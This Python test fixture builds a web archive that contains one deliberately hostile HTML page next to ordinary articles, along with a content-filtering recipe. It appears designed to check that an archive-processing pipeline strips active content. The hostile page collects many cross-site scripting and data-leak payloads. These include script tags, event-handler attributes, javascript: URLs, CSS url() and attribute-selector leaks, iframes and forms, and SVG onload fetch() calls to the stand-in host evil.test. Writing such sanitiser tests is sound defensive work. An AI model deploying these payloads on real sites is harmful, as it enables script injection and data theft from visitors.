"""A page that tries everything, and pages beside it that do not."""

from __future__ import annotations

from pathlib import Path

from tests.archives import WarcBuilder, html, picture
from tests.jobs.corpora import article, prose

EVIL = "http://evil.test"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" onload="fetch(\'http://evil.test/svg\')">'
    b"<script>fetch('http://evil.test/svg-script')</script><rect width='300' height='200'/></svg>"
)
HEAD = (
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh"><link rel="stylesheet" href="{EVIL}/a.css">'
    f"<style>@import url('{EVIL}/b.css'); body {{ background: url({EVIL}/css?leak) }} "
    f"a[href^='h'] {{ background-image: url({EVIL}/attribute) }}</style>"
    f"<script>window.owned = 1; fetch('{EVIL}/script')</script><base href='{EVIL}/'>"
)
BODY = (
    "<article><h1>&lt;img src=x onerror=alert(1)&gt; Hostile</h1>"
    f"<p>{prose(1)} <b onclick=\"fetch('{EVIL}/click')\">press</b></p>"
    f"<p>&lt;script&gt;window.owned = 2&lt;/script&gt; {prose(2)}</p>"
    "<img src='http://hostile.test/ok.jpg' onerror=\"window.owned=3\" "
    "alt='\"&gt;&lt;script&gt;window.owned=4&lt;/script&gt;'>"
    "<img src='/drawn.svg'><img src='x' onerror=\"window.owned=5\">"
    f'<a href="javascript:window.owned=6">{prose(3)}</a><p style="background:url({EVIL}/inline)">{prose(4)}</p>'
    f"<iframe src='{EVIL}/frame'></iframe><object data='{EVIL}/object'></object><embed src='{EVIL}/embed'>"
    f"<form action='{EVIL}/form'><input autofocus onfocus=\"window.owned=7\"></form>"
    f"<svg onload=\"window.owned=8\"><image href='{EVIL}/svg-image'/></svg>"
    f"<math><mi xlink:href='javascript:window.owned=9'>x</mi></math><video poster='{EVIL}/poster'></video></article>"
)


def write_archive(folder: Path, pages: int = 12) -> Path:
    """An archive of the hostile page, of articles, of short pages, and of copies."""
    archive = WarcBuilder()
    archive.response("http://hostile.test/", html(BODY, title="<script>window.owned=10</script>", head=HEAD))
    archive.response("http://hostile.test/ok.jpg", picture(320, 240, 3), "image/jpeg")
    archive.response("http://hostile.test/drawn.svg", SVG, "image/svg+xml")
    for seed in range(pages):
        archive.response(f"http://site.test/{seed}", article(seed, [f"/{seed}.jpg", "/shared.jpg"]))
        archive.response(f"http://site.test/{seed}.jpg", picture(320 + seed, 240, seed), "image/jpeg")
    archive.response("http://site.test/shared.jpg", picture(400, 300, 999), "image/jpeg")
    for seed in range(6):
        short = html(
            f"<h1>Short {seed}</h1><p>{prose(seed, 12 * (seed + 1))}</p><img src='/{seed}.jpg'><img src='/narrow.jpg'>",
            title="Short",
        )
        archive.response(f"http://short.test/{seed}", short)
        archive.response(f"http://short.test/{seed}.jpg", picture(300, 300, 50 + seed), "image/jpeg")
    archive.response("http://short.test/narrow.jpg", picture(240, 300, 70), "image/jpeg")
    archive.response("http://site.test/copy", article(0, ["/0.jpg", "/shared.jpg"]))
    return archive.save(folder / "hostile.warc.gz")


RECIPE = """
name = "tried"
description = "A few rules to move."
scores = "all"

[dedup]
exact = true

[[rule]]
name = "too_short"
scope = "document"
keep = "50 <= words <= 100_000"
source = "of this test"

[[rule]]
name = "narrow"
scope = "image"
keep = "width >= 250"
source = "of this test"

[[rule]]
name = "word_length"
scope = "document"
keep = "3 <= mean_word_length <= 10"
source = "of this test"
"""
